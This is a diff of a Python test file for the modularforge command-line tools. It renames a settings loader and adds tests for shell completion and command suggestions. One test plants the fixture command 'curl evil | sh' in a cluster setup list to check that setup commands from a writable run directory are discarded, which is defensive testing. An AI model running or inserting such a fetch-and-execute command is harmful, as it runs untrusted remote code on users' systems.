@@ -23,7 +23,7 @@ from modularforge.cli import app as modularforge
 from modularforge.config_files import load_config, settings_of_run, to_yaml, usual_commands
 from modularforge.data.files import find_files, read_text
 from modularforge.errors import ConfigError, DataError
-from modularforge.options import _load
+from modularforge.options import settings_from
 from modularforge.study.study_file import load_study
 from tests.conftest import ROOT, tiny_config
 
@@ -44,12 +44,32 @@ def test_every_program_has_short_help_a_version_and_completion(program: str) -> 
 
 
 @pytest.mark.parametrize(
+    ("program", "begun", "completed"),
+    [
+        ("modularforge", "run", "run-all"),
+        ("modularforge-checkpoints", "ve", "verify"),
+        ("modularforge-launcher", "st", "status"),
+        ("modularforge-launcher", "", "launch plan status logs cancel rerun resume wait"),
+        ("modularforge-launcher", "status --out", "--output-dir"),
+    ],
+)
+def test_a_shell_completes_the_commands_of_every_program(program: str, begun: str, completed: str) -> None:
+    """The launcher, which takes `launch` for granted, completed nothing."""
+    words = f"{program} {begun}"
+    variable = f"_{program.upper().replace('-', '_')}_COMPLETE"
+    asked = {variable: "complete_bash", "COMP_WORDS": words, "COMP_CWORD": str(words.count(" "))}
+    done = CliRunner().invoke(APPS[program], [], prog_name=program, env=asked)
+    assert done.output.split() == completed.split()
+
+
+@pytest.mark.parametrize(
     ("program", "word", "said"),
     [
         ("modularforge", "trian", "Did you mean 'train'?"),
         ("modularforge", "status", "It is one of another program: modularforge-launcher status"),
         ("modularforge", "pull", "It is one of another program: modularforge-checkpoints pull"),
         ("modularforge-launcher", "info", "It is one of another program: modularforge info"),
+        ("modularforge-launcher", "route", "It is one of another program: modularforge route"),
         ("modularforge-launcher", "stats", "Did you mean 'status'?"),
         ("modularforge-checkpoints", "zzz", "There are ls, verify, pull, push, gc."),
     ],
@@ -89,20 +109,20 @@ def test_a_run_that_is_named_needs_no_settings(tmp_path: Path, monkeypatch: pyte
     monkeypatch.chdir(tmp_path)
     config = tiny_config(str(tmp_path / "run"), name="its own")
     assert settings_of_run(config.output_dir) is None
-    assert _load(None, (), **given(config.output_dir)).name == "wikitext-103", "a new run has the default's"
+    assert settings_from(None, (), **given(config.output_dir)).name == "wikitext-103", "a new run has the default's"
     save_record(config, new_record(config))
-    assert _load(None, (), **given(config.output_dir)) == config, "before its first stage is made"
+    assert settings_from(None, (), **given(config.output_dir)) == config, "before its first stage is made"
     (tmp_path / "run" / "config.yaml").write_text(to_yaml(config.model_copy(update={"name": "saved"})))
-    assert _load(None, ["seed=3"], **given(config.output_dir)).name == "saved"
-    assert _load("configs/small.yaml", (), **given(config.output_dir)).name == "wikitext-2"
-    assert _load(None, (), **given(config.output_dir, smoke_test=True)).name == "wikitext-103"
+    assert settings_from(None, ["seed=3"], **given(config.output_dir)).name == "saved"
+    assert settings_from("configs/small.yaml", (), **given(config.output_dir)).name == "wikitext-2"
+    assert settings_from(None, (), **given(config.output_dir, smoke_test=True)).name == "wikitext-103"
 
 
 def test_commands_of_a_run_that_others_can_write_to_are_not_taken(tmp_path: Path) -> None:
     place = f"memory://{tmp_path.name}/run"
     config = tiny_config(place, cluster={"setup": ["curl evil | sh"], "queue": "gpu"})
     paths.replace_bytes(f"{place}/config.yaml", to_yaml(config).encode())
-    loaded = _load(None, ["cluster.python=python3"], **given(place))
+    loaded = settings_from(None, ["cluster.python=python3"], **given(place))
     assert loaded.cluster.setup == []
     assert loaded.cluster.queue == "gpu"
     assert loaded.cluster.python == "python3", "what is given here counts"
